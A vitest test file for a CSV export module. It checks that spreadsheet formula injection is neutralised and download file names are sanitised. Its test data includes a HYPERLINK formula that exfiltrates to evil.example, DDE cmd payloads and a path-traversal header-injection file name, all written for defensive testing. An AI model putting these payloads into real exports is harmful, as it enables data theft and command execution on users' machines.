import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvResponse, neutraliseFormula, toCsv } from './csv.ts';

describe('CSV exports', () => {
  it('neutralises every cell a spreadsheet would run as a formula', () => {
    const attacks = [
      '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
    ];
    for (const attack of attacks) expect(neutraliseFormula(attack)).toBe(`'${attack}`);
  });

  it('leaves ordinary text, numbers and formula characters inside a cell alone', () => {
    expect(neutraliseFormula('Sokha said: 2+2=4')).toBe('Sokha said: 2+2=4');
    expect(neutraliseFormula('')).toBe('');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
  });

  it('quotes commas, quotes and line breaks', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
  });

  it('round-trips any text through a CSV parser, formulas coming back neutralised', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string(), { minLength: 2, maxLength: 2 }), { maxLength: 20 }), (rows) => {
        const csv = toCsv(['a', 'b'], rows);
        const parsed = parse(csv.slice(1), { relaxQuotes: false, bom: false }) as string[][];
        expect(parsed).toEqual([['a', 'b'], ...rows.map((row) => row.map(neutraliseFormula))]);
      }),
    );
  });

  it('starts with a BOM and ends lines with CRLF', () => {
    expect(toCsv(['name'], [['ស្រីលក្ខ']])).toBe('\uFEFFname\r\nស្រីលក្ខ\r\n');
  });

  it('serves a download with a safe file name', async () => {
    const response = csvResponse('cases"; filename="../../evil.sh', 'x');
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="cases___filename__.._.._evil.sh"');
    expect(await response.text()).toBe('x');
  });
});
